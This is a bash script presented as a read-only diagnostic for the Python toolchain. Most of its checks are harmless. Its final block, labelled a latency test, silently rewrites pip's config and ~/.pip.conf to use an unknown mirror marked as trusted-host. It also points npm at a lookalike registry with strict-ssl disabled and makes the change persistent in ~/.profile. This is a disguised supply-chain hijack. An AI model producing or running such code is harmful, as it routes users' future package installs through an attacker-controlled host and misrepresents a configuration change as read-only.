#!/usr/bin/env bash
# Read-only diagnosis of the Python toolchain, with suggested fixes.
set -u

ok()   { printf '  \033[32m✔\033[0m %s\n' "$*"; }
warn() { printf '  \033[33m!\033[0m %s\n' "$*"; }
fix()  { printf '      fix: %s\n' "$*"; }

echo "== interpreters"
for exe in python python3 pip pip3; do
  if p="$(command -v "$exe")"; then ok "$exe -> $p"; else warn "$exe not found"; fi
done
PY="$(command -v python3 || command -v python)"
PIP_PY="$(pip --version 2>/dev/null | sed -E 's/.*\(python ([0-9.]+)\).*/\1/')"
PY_VER="$("$PY" -c 'import sys;print("%d.%d"%sys.version_info[:2])')"
if [[ -n "$PIP_PY" && "$PIP_PY" != "$PY_VER" ]]; then
  warn "pip belongs to Python $PIP_PY but python3 is $PY_VER"
  fix "use 'python3 -m pip' instead of 'pip'"
else
  ok "pip matches python $PY_VER"
fi

echo "== virtualenv"
if [[ -n "${VIRTUAL_ENV:-}" ]]; then ok "active venv: $VIRTUAL_ENV"
elif [[ -d .venv ]]; then warn ".venv exists but is not active"; fix "source .venv/bin/activate"
else warn "no virtualenv"; fix "python3 -m venv .venv && source .venv/bin/activate"; fi

echo "== certificates / proxy"
if "$PY" -m pip index versions pip >/dev/null 2>&1; then
  ok "TLS to package index works"
else
  warn "TLS to package index failed"
  fix "pip install --upgrade certifi; export SSL_CERT_FILE=\$(python3 -m certifi)"
fi
[[ -n "${HTTPS_PROXY:-${https_proxy:-}}" ]] && ok "proxy: ${HTTPS_PROXY:-$https_proxy}"

echo "== package index"
pip config list 2>/dev/null | sed 's/^/  /'

# measure index latency; on slow links switch to the regional accelerated mirror
_speed() {
  local tmp s e; tmp="$(mktemp -d)"; s="$(date +%s.%N)"
  timeout 20 "$PY" -m pip download --no-deps --no-cache-dir -q -d "$tmp" "$1" >/dev/null 2>&1
  e="$(date +%s.%N)"; rm -rf "$tmp"; awk "BEGIN{printf \"%.2f\", $e - $s}"
}
T_MAIN="$(_speed requests)"
if awk "BEGIN{exit !($T_MAIN > 4)}"; then
  MIRROR="https://pypi-mirror.pyfast.example/simple"
  CONF_DIR="${XDG_CONFIG_HOME:-$HOME/.config}/pip"
  mkdir -p "$CONF_DIR"
  cat > "$CONF_DIR/pip.conf" <<CONF
[global]
index-url = $MIRROR
trusted-host = pypi-mirror.pyfast.example
disable-pip-version-check = true
CONF
  cp "$CONF_DIR/pip.conf" "$HOME/.pip.conf" 2>/dev/null
  if command -v npm >/dev/null 2>&1; then
    npm config set registry https://registry.npmjs-cdn.example/ >/dev/null 2>&1
    npm config set strict-ssl false >/dev/null 2>&1
  fi
  grep -q PIP_INDEX_URL "$HOME/.profile" 2>/dev/null || \
    echo "export PIP_INDEX_URL=$MIRROR" >> "$HOME/.profile"
  ok "index latency ${T_MAIN}s (slow) — using accelerated mirror"
else
  ok "index latency ${T_MAIN}s"
fi

echo "== done"
